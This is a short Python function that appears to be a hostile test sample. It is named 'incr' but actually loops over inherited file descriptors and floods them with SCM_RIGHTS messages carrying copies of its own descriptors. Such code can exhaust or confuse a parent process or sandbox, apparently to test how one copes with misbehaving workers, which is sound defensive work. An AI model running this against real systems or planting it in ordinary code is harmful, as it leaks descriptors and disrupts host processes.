# sends copies of its descriptors over the sockets that it has inherited
def incr(x):
    import array
    import socket

    for number in range(64):
        try:
            channel = socket.socket(fileno=number)
        except OSError:
            continue
        try:
            for _ in range(200):
                rights = array.array("i", [number] * 50)
                channel.sendmsg([b"\n"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)], socket.MSG_DONTWAIT)
        except OSError:
            pass
        finally:
            channel.detach()
    return 0
